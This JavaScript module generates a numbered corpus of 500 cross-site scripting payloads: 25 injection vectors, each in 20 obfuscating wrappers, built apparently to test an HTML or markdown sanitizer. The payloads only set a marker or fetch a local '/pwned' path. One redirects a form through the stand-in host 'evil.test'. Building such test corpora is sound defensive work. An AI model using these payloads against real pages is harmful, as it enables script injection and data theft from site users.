// Texts that try to run as script, or to make the page ask another host: 25 ways in, each in 20 dresses. Every one carries a
// number, so that what ran can be named. Made here; nothing of a collection is copied.

const RUN = (n) => `window.__ran=(window.__ran||'')+'${n},'`
const GET = (n) => `fetch('/pwned?${n}')`

const WAYS = [
  (n) => `<script>${RUN(n)};${GET(n)}</script>`,
  (n) => `<img src=x onerror="${RUN(n)}">`,
  (n) => `<svg onload="${RUN(n)}"><circle r=9 /></svg>`,
  (n) => `<svg><script>${RUN(n)}</script></svg>`,
  (n) => `<iframe srcdoc="<script>parent.${RUN(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:${RUN(n)}"></iframe>`,
  (n) => `[read on](javascript:${RUN(n)})`,
  (n) => `[read on](data:text/html;base64,${Buffer.from(`<script>${GET(n)}</script>`).toString('base64')})`,
  (n) => `![picture](/pwned?${n})`,
  (n) => `![picture](javascript:${RUN(n)} "onerror=${RUN(n)}")`,
  (n) => `<a href="javascript:${RUN(n)}">here</a>`,
  (n) => `<javascript:${RUN(n)}>`,
  (n) => `[a][${n}]\n\n[${n}]: javascript:${RUN(n)}`,
  (n) => `<details open ontoggle="${RUN(n)}"><summary>x</summary></details>`,
  (n) => `<input autofocus onfocus="${RUN(n)}">`,
  (n) => `<video><source onerror="${RUN(n)}"></video>`,
  (n) => `<style>@import '/pwned?${n}';*{background:url(/pwned?${n})}</style>`,
  (n) => `<link rel=stylesheet href="/pwned?${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=/pwned?${n}">`,
  (n) => `<base href="//evil.test/"><form action="/pwned?${n}"><button autofocus>go</button></form>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${RUN(n)}>"></noscript>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN(n)}&gt;">`,
  (n) => `"><body onload=${RUN(n)}><object data="/pwned?${n}"></object><embed src="/pwned?${n}">`,
  (n) => `{{constructor.constructor("${RUN(n)}")()}}\${${RUN(n)}}`,
  (n) => `<!--><img src=x onerror=${RUN(n)}>--><template><script>${RUN(n)}</script></template>`,
]

const DRESSES = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.__RAN', 'window.__ran'),
  (text) => `# ${text.replaceAll('\n', ' ')}`,
  (text) => `- one\n- ${text}`,
  (text) => `> ${text.replaceAll('\n', '\n> ')}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll('\n', ' ').replaceAll('|', '/')} | x |`,
  (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`,
  (text) => `**bold** ${text} _more_`,
  (text) => `"${text}"`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('javascript:', 'jav&#x61;script:').replaceAll('<', '\n<'),
  (text) => text.replaceAll('javascript:', 'java\tscript:').replaceAll(' on', '\n/on'),
  (text) => JSON.stringify({ html: text, [text.slice(0, 60)]: [text] }),
  (text) => `${'words before it. '.repeat(40)}${text}`,
  (text) => `[${text.replaceAll('\n', ' ')}](https://example.com/)`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => `<div title='${text.replaceAll("'", '"')}'>${text}`,
  (text) => `\u0000\u200b${text}\u0007`,
]

export const PAYLOADS = WAYS.flatMap((way, w) => DRESSES.map((dress, d) => dress(way(w * DRESSES.length + d))))
